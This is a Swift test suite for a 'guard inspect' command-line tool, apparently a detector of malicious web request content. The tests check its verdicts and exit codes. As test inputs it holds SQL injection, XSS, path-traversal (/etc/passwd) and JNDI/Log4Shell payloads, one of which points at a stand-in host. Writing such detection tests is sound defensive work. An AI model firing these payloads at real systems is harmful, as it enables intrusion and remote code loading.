import Foundation
import Testing

/// `guard inspect` as users run it: the built binary next to the test bundle.
@Suite struct InspectCLITests {
    static var binary: URL {
        let exe = URL(fileURLWithPath: "/proc/self/exe").resolvingSymlinksInPath()
        var dir = exe.deletingLastPathComponent()
        if dir.lastPathComponent.hasSuffix(".xctest") { dir = dir.deletingLastPathComponent() }
        return dir.appendingPathComponent("guard")
    }

    struct Run {
        var status: Int32
        var stdout: String
        var stderr: String
    }

    static func run(_ args: [String], stdin: String) throws -> Run {
        let p = Process()
        p.executableURL = binary
        p.arguments = ["inspect"] + args
        let inPipe = Pipe(), outPipe = Pipe(), errPipe = Pipe()
        p.standardInput = inPipe
        p.standardOutput = outPipe
        p.standardError = errPipe
        try p.run()
        inPipe.fileHandleForWriting.write(Data(stdin.utf8))
        try inPipe.fileHandleForWriting.close()
        let out = outPipe.fileHandleForReading.readDataToEndOfFile()
        let err = errPipe.fileHandleForReading.readDataToEndOfFile()
        p.waitUntilExit()
        return Run(
            status: p.terminationStatus, stdout: String(decoding: out, as: UTF8.self),
            stderr: String(decoding: err, as: UTF8.self))
    }

    @Test(.enabled(if: FileManager.default.isExecutableFile(atPath: binary.path)))
    func jsonlOneLinePerInputLineInOrder() throws {
        let input = """
            {"queryStringParameters":{"q":"hello"}}
            {"queryStringParameters":{"q":"1 union select 1,2--"}}
            not json at all
            {"rawPath":"/a","cookies":["t=<script>alert(1)</script>"]}
            """
        let r = try Self.run(["--jsonl"], stdin: input + "\n")
        let lines = r.stdout.split(separator: "\n").map(String.init)
        #expect(lines.count == 4)
        let objs = try lines.map { try JSONSerialization.jsonObject(with: Data($0.utf8)) as! [String: Any] }
        #expect(objs.map { $0["line"] as? Int } == [1, 2, 3, 4])
        #expect(objs.map { $0["verdict"] as? String } == ["clean", "block", "clean", "block"])
        #expect(objs[2]["error"] != nil)
        let f = (objs[1]["findings"] as! [[String: String]])[0]
        #expect(f["class"] == "sqli" && f["location"] == "/queryStringParameters/q")
        #expect(r.status == 2)  // a malformed line makes the run an input error
    }

    @Test(.enabled(if: FileManager.default.isExecutableFile(atPath: binary.path)))
    func exitStatus() throws {
        #expect(try Self.run(["--jsonl"], stdin: "{\"a\":\"fine\"}\n").status == 0)
        #expect(try Self.run(["--jsonl"], stdin: "{\"a\":\"../../../etc/passwd\"}\n").status == 1)
        #expect(try Self.run(["--detectors", "xss"], stdin: "' or 1=1--").status == 0)
        #expect(try Self.run(["--detectors", "nope"], stdin: "").status == 2)
        #expect(try Self.run(["--bogus"], stdin: "").status == 2)
        #expect(try Self.run(["--mode", "audit"], stdin: "<script>alert(1)</script>").status == 0)
    }

    @Test(.enabled(if: FileManager.default.isExecutableFile(atPath: binary.path)))
    func rawPayloadAndFile() throws {
        let r = try Self.run([], stdin: "${jndi:ldap://x.example/a}")
        #expect(r.status == 1)
        #expect(r.stdout.contains("\"class\":\"jndi\""))
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("guard-inspect-\(getpid()).json")
        try Data("{\"body\":\"<svg onload=alert(1)>\"}".utf8).write(to: path)
        defer { try? FileManager.default.removeItem(at: path) }
        let f = try Self.run([path.path], stdin: "")
        #expect(f.status == 1)
        #expect(f.stdout.contains("\"file\":\"\(path.path)\""))
    }
}
